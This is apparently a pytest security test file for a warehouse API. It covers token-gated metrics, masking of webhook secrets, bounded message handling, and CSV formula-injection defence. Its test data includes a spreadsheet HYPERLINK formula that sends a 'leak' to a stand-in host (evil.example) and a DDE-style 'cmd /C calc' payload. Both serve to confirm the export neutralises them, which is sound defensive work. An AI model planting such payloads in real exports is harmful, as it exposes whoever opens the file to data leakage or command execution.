"""Secrets and exposure: webhook URLs masked, /metrics behind a token, the API's live
inbox and station decoding bounded, CSV cells that no spreadsheet runs as formulas."""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import threading
from collections.abc import Callable

import httpx
import pytest

from api import live as live_module
from api.auth import hash_token
from api.live import LiveState
from gudang.mqtt import Message
from gudang.settings import Settings
from gudang.wire import (
    MAX_PAYLOAD_BYTES,
    DeviceStateV1,
    StationState,
    StationStatusV1,
    encode,
)
from gudang_ops.servers import free_port
from tests.api.conftest import CONTAINER, STATION, TOKENS, Stack
from tests.harness import Probe, running_api, running_services, wait_for
from tests.services.kit import drum

# The test tokens, as tests/api/conftest.py configures them.
API = {
    "allow_demo_tokens": False,
    "tokens": [
        {"name": f"{role}-1", "role": role, "sha256": hash_token(tok)}
        for role, tok in TOKENS.items()
    ],
}
BOT_SECRET = "123456789:AAHsecretBotTokenNobodyMaySee"
HOSTILE = '=HYPERLINK("http://evil.example/?leak","open me")'


def test_metrics_need_a_token_unless_the_caller_is_configured(stack: Stack) -> None:
    r = httpx.get(f"{stack.url}/metrics", timeout=15)
    assert r.status_code == 401
    assert (
        httpx.get(f"{stack.url}/metrics", headers={"Authorization": "Bearer x"}).status_code == 401
    )
    ok = stack.get("/metrics", role="worker")
    assert ok.status_code == 200
    assert "gudang_api_requests_total" in ok.text
    opened = stack.settings.model_copy(
        update={"api": stack.settings.api.model_copy(update={"metrics_open_from": ["127.0.0.1"]})}
    )
    with running_api(opened) as url:
        assert httpx.get(f"{url}/metrics", timeout=15).status_code == 200


def test_webhook_urls_are_masked_in_logs_thread_names_and_admin_settings(
    settings_with: Callable[..., Settings], caplog: pytest.LogCaptureFixture
) -> None:
    hook = f"http://127.0.0.1:{free_port()}/bot{BOT_SECRET}/sendMessage?chat_id=42"
    settings = settings_with(
        alerts={
            "webhooks": [hook],
            "webhook_retry_max_s": 0.2,
            "notify": [
                {
                    "format": "telegram",
                    "bot_token": f"99:{BOT_SECRET}",
                    "chat_id": "-100",
                    "telegram_api": hook.split("/bot", maxsplit=1)[0],
                },
                {"format": "signed", "url": f"{hook}?key={BOT_SECRET}", "secret": BOT_SECRET * 2},
            ],
        },
        api=API,
    )
    caplog.set_level(logging.DEBUG)
    probe = Probe(settings)
    try:
        with running_services(settings) as services, running_api(settings) as url:
            stack = Stack(url, settings, probe)
            stack.open_and_point()
            stack.scan(drum(1))
            stack.scan(drum(1))  # a duplicate: an alert for the (dead) webhook
            wait_for(lambda: services.ingest.webhooks.counters["retries"] >= 2, what="retries")
            names = [t.name for t in threading.enumerate()]
            assert any(n.startswith("webhook http://127.0.0.1:") for n in names), names
            assert not any(BOT_SECRET in n for n in names)
            shown = stack.get("/api/v1/admin/settings", role="admin")
            assert shown.status_code == 200
            assert BOT_SECRET not in shown.text
            assert shown.json()["alerts"]["webhooks"] == [
                hook.split("/bot", maxsplit=1)[0] + "/***"
            ]
            notify = shown.json()["alerts"]["notify"]
            assert [(t["format"], t["bot_token"], t["secret"]) for t in notify] == [
                ("telegram", "***", ""),
                ("signed", "", "***"),
            ]
    finally:
        probe.close()
    logged = [r.getMessage() for r in caplog.records]
    assert any("webhook http://127.0.0.1:" in m and "failed" in m for m in logged)
    assert not any(BOT_SECRET in m for m in logged)


def test_station_messages_are_bounded_and_checked_like_the_services_do(stack: Stack) -> None:
    def bad() -> float:
        for line in stack.get("/metrics").text.splitlines():
            if line.startswith('gudang_api_live_events{what="bad_state_messages"}'):
                return float(line.rsplit(" ", 1)[1])
        return 0.0

    huge = StationStatusV1(
        site=stack.site,
        station=STATION,
        state=StationState.ONLINE,
        devices=[DeviceStateV1(name="d", role="scale", state="error", detail="x" * 20_000)],
    )
    assert len(encode(huge)) > MAX_PAYLOAD_BYTES
    stack.probe.publish(stack.topics.status(STATION), encode(huge))
    wait_for(lambda: bad() == 1, what="the oversized status ignored")
    other = StationStatusV1(site=stack.site, station="load-2", state=StationState.ONLINE)
    stack.probe.publish(stack.topics.status(STATION), encode(other))
    wait_for(lambda: bad() == 2, what="another station's status on load-1's topic refused")
    listed = {s["station"] for s in stack.get("/api/v1/stations").json()}
    assert STATION not in listed  # neither was taken as load-1's status
    assert "load-2" not in listed


def test_the_live_inbox_is_bounded(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(live_module, "INBOX_MAX", 50)
    live = LiveState(settings)
    loop = asyncio.new_event_loop()  # not running: nothing drains the inbox
    try:
        live._loop = loop
        for n in range(60):
            live._on_message(
                Message(f"gudang/{settings.site.name}/station/s/weight", b"{}", 0, False, 0)
            )
            assert len(live._inbox) == min(n + 1, 50)
        assert live.counters["inbox_dropped"] == 10
    finally:
        loop.close()


def test_csv_cells_starting_with_a_formula_are_neutralised(
    settings_with: Callable[..., Settings],
) -> None:
    settings = settings_with(
        floor={"skus": {"JMB-L": {"name": "@SUM(1+1)*cmd|' /C calc'!A0", "max_kg": 12.0}}},
        api=API,
    )
    probe = Probe(settings)
    try:
        with running_services(settings), running_api(settings) as url:
            stack = Stack(url, settings, probe)
            stack.open_and_point()
            stack.scan(drum(1))
            stack.wait_drums(1)
            stack.scan(HOSTILE)  # a hostile label: refused, but stored and listed
            scans = wait_for(
                lambda: "HYPERLINK(" in (r := stack.get("/api/v1/scans.csv")).text and r,
                what="the hostile scan in scans.csv",
            )
            packing = stack.get(f"/api/v1/containers/{CONTAINER}/packing-list.csv")
            assert packing.status_code == 200, packing.text
    finally:
        probe.close()
    for text in (scans.text, packing.text):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        formulas = [
            c for c in cells if c[:1] in ("=", "+", "@") or (c.startswith("-") and c[1:2].isalpha())
        ]
        assert formulas == [], formulas
    assert "'" + HOSTILE in [c for row in csv.reader(io.StringIO(scans.text)) for c in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in packing.text
